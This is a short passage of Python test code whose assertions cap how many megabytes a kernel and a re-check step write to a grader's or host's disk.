        f"the kernel wrote {kernel['conn'] / 2**20:.0f} MB into its connection-file folder on the grader's disk"
    assert recheck.get("cwd", 0) <= 256 * 2**20, f"the re-check wrote {recheck['cwd'] / 2**20:.0f} MB to the host disk"
